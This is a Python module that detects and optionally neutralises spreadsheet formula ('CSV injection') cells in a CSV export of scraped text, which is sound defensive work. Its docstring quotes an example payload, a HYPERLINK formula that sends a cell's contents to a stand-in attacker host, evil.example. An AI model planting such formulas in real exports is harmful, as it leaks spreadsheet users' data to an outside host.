"""Spreadsheet formulas in csv cells ("CSV injection"): a cell that opens with `=`, `+`,
`-` or `@` (or a tab or carriage return before one) is run as a formula by Excel,
LibreOffice and Sheets. Titles, outlets and sentences come from scraped pages and forum
posts, so any of them can be `=HYPERLINK("http://evil.example/?"&A1,"click")`, and ordinary
text opens that way too ("-2% on the day", "+1 to this").

The csv export writes every cell exactly (its text must equal the source between `start`
and `end`, and pandas users read it as data) and counts the cells a spreadsheet would run;
the export then says how many and offers `--safe-cells`, which writes each of them with a
leading `'` (the prefix spreadsheets take as "this is text", OWASP's advice)."""

from __future__ import annotations

from dataclasses import dataclass

# what a spreadsheet reads as the start of a formula (OWASP: = + - @ tab carriage return)
FORMULA_OPENERS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class CellGuard:
    """Counts (and with `safe`, neutralises) the cells of one export that open a formula."""

    safe: bool = False
    formulas: int = 0

    def row(self, values: list[object]) -> list[object]:
        """The row to write: text cells that open a formula counted, and prefixed with `'`
        when safe. Numbers are written by the csv module as they are (a negative number is
        a number to a spreadsheet, not a formula)."""
        out = values
        for i, v in enumerate(values):
            if isinstance(v, str) and v.startswith(FORMULA_OPENERS):
                self.formulas += 1
                if self.safe:
                    if out is values:
                        out = list(values)
                    out[i] = "'" + v
        return out

    def note(self, where: str) -> str | None:
        """What the user is told after the export, or None when no cell opens a formula."""
        n = self.formulas
        if not n:
            return None
        cells = "cell" if n == 1 else "cells"
        if self.safe:
            return (
                f"{where}: {n} {cells} that open with =, +, -, @, a tab or a carriage return "
                "written with a leading ' (--safe-cells), so that a spreadsheet shows them as "
                "text; that character is not in the source text"
            )
        return (
            f"{where}: {n} {cells} open with =, +, -, @, a tab or a carriage return, which "
            "a spreadsheet (Excel, LibreOffice, Sheets) runs as a formula: open the file in "
            "one only after exporting with --safe-cells (each such cell then starts with ')"
        )
